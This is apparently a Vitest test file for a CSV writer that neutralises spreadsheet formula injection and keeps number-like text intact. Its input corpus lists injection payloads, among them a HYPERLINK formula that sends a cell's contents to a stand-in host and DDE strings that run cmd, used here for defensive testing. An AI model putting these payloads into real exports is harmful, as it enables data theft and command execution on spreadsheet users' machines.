import { expect, test } from 'vitest'
import { readCsv } from '../../tests/support/csv.ts'
import { csvLine } from './csv.ts'

/** What a spreadsheet would run, and what breaks a careless file. */
const CORPUS = [
  '=1+1',
  '=HYPERLINK("https://evil.example?x="&A1,"click")',
  "=cmd|'/c calc'!A0",
  '+44 20 7946 0000',
  '-2+3',
  '@SUM(1+9)*cmd|calc',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '\u0000=1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(1)',
  'O"Brien',
  '"=1+1"',
  'a,b',
  'a;b',
  'two\r\nlines',
  "'=already",
  '',
  ' =1',
  'Zoë Ngũgĩ 李 👩‍💻',
]

test('D5 every value comes back as it was, and what begins like a formula with an apostrophe before it', () => {
  const [values = []] = readCsv(csvLine(CORPUS))
  expect(values).toHaveLength(CORPUS.length)
  for (const [index, value] of values.entries()) {
    const typed = CORPUS[index] ?? ''
    expect([typed, `'${typed}`]).toContain(value)
    expect(value, 'no program may run it').not.toMatch(/^[=+\-@\t\r\n\0＝＋－＠]/)
  }
})

test('D5 twin: without the apostrophe, a formula is seen', () => {
  const careless = `${CORPUS.map((one) => `"${one.replaceAll('"', '""')}"`).join(',')}\r\n`
  expect(readCsv(careless)[0]?.some((value) => /^[=+\-@]/.test(value))).toBe(true)
})

test.each([
  '02079460123',
  '447700900123',
  '020 7946 0123',
  '(020) 7946-0123',
  '0044.20.7946.0123',
  '007',
  '000123456789012345678',
  '12-11',
  '3/4',
  '1E5',
  '10:30',
  '£007',
  '1,500',
  '٠٢٠٧',
  '０２０',
  ' 007 ',
  'MAR1',
  'Sep-12',
  '12 Nov',
  '3-Dec-2026',
  'TRUE',
])('the text %j keeps its digits, because no spreadsheet reads it as a number, a date or a truth', (text) => {
  expect(readCsv(csvLine([text]))).toEqual([[`'${text}`]])
})

test.each([
  'TA-7K3M9Q',
  'PO 123',
  '12 Wharf Road',
  'R-000042',
  '5th & 6th Dec 2026',
  'May Lind',
  'Jun',
  'a@b.co',
  'B2B',
])('the text %j stays as it is', (text) => expect(readCsv(csvLine([text]))).toEqual([[text]]))

test('a date that is named as one stays a date', () => {
  expect(csvLine([{ date: '2026-12-05 10:00' }, { date: '2026-12' }])).toBe('"2026-12-05 10:00","2026-12"\r\n')
})

test('numbers stay numbers, nothing is empty, and a line ends as spreadsheets expect', () => {
  expect(csvLine([1, -2.5, null, 'Amara'])).toBe('1,-2.5,"","Amara"\r\n')
})
